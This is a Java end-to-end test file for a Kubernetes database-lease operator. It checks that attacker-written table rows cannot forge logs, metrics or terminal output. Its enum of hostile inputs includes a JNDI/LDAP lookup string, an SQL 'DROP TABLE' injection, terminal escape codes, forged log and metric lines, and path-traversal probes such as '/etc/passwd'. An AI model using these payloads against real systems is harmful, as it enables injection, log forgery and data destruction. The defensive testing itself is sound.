package io.anixops.lease.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.sql.SQLException;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Rows that an attacker wrote, who may write the table: nothing of them moves a cursor, a line or a tag anywhere. */
class HostileRowsE2E {
    private static final String PRINTABLE = "(?s)[\\n\\t -~]*";

    private static Stage stage;
    private static OperatorProcess operator;

    @BeforeAll
    static void start() {
        stage = Stage.open();
        operator = stage.operator();
    }

    @AfterAll
    static void stop() {
        stage.close();
    }

    @ParameterizedTest
    @EnumSource
    void is_told_in_printable_ascii_wherever_it_is_told(Attack attack) throws Exception {
        var scene = stage.scene("hostile");
        scene.readyPod("a").leaseOfPods(30);
        scene.awaitReason("False", "NoCandidate");

        write(scene.namespace() + "/main", attack);
        Eventually.until(
                "it is held",
                () -> scene.condition("Held").orElseThrow().getStatus().equals("True"));

        assertThat(scene.kubectl("get", "databaselease", "main", "-o", "wide")).matches(PRINTABLE);
        assertThat(String.valueOf(scene.status().holder())).matches("[ -~]{0,1400}");
        assertThat(events(scene)).matches(PRINTABLE).hasSizeLessThan(20_000);
        assertThat(operator.get("/metrics")).matches(PRINTABLE).doesNotContain("forged", "jndi");
        assertThat(operator.get("/readyz") + operator.get("/livez"))
                .matches(PRINTABLE)
                .doesNotContain("forged");
        assertThat(operator.logged()).matches(PRINTABLE).doesNotContainPattern("(?m)^forged");
        assertThat(operator.isAlive()).isTrue();
        scene.end();
    }

    @Test
    void the_port_tells_nothing_of_where_the_database_is_nor_of_who_is_asking() throws Exception {
        var told = operator.get("/metrics") + operator.get("/readyz") + operator.get("/livez");

        assertThat(told)
                .doesNotContain("jdbc:", "127.0.0.1", stage.database().name(), "KUBECONFIG", "password", "Bearer");
        for (var path :
                new String[] {"/", "/metrics/../../etc/passwd", "/%2e%2e/", "/heapdump", "/env", "/debug/pprof"}) {
            assertThat(operator.status(path)).as(path).isIn(400, 404);
        }
    }

    private static String events(Scene scene) {
        return stage.plane().client().v1().events().inNamespace(scene.namespace()).list().getItems().stream()
                .map(event -> event.getReason() + " " + event.getMessage())
                .collect(Collectors.joining("\n"));
    }

    private static void write(String name, Attack attack) throws SQLException {
        String sql =
                "INSERT INTO database_lease (name, holder, renewer, holder_info, expires_at, acquired_at, renewed_at)"
                        + " VALUES (?, ?, ?, jsonb_build_object('pod', ?::text, 'cluster', ?::text), clock_timestamp() + interval '30 s',"
                        + " clock_timestamp(), clock_timestamp())";
        try (var connection = stage.database().dataSource().getConnection();
                var insert = connection.prepareStatement(sql)) {
            insert.setString(1, name);
            insert.setString(2, attack.text.substring(0, Math.min(200, attack.text.length())));
            insert.setString(3, attack.text.substring(0, Math.min(200, attack.text.length())));
            insert.setString(4, attack.text);
            insert.setString(5, attack.text);
            insert.execute();
        }
    }

    enum Attack {
        TERMINAL("\u001b[2J\u001b[31m\u0007\b\u009b"),
        LINES("a\r\nforged 2026-12-01T00:00:00.000Z ERROR\u2028\u0085x"),
        LOOK_ALIKES("\u0430dmin\u202e\u200b\ufeff"),
        LOOK_UPS("${jndi:ldap://x/forged}${env:HOME}%n%s{}"),
        QUOTES("forged\" token=\"9\"'; DROP TABLE database_lease; --\\"),
        TAGS("x\"} 1\nanixops_lease_leader{lease=\"forged\"} 1"),
        MEGABYTE("x".repeat(1_000_000));

        private final String text;

        Attack(String text) {
            this.text = text;
        }
    }
}
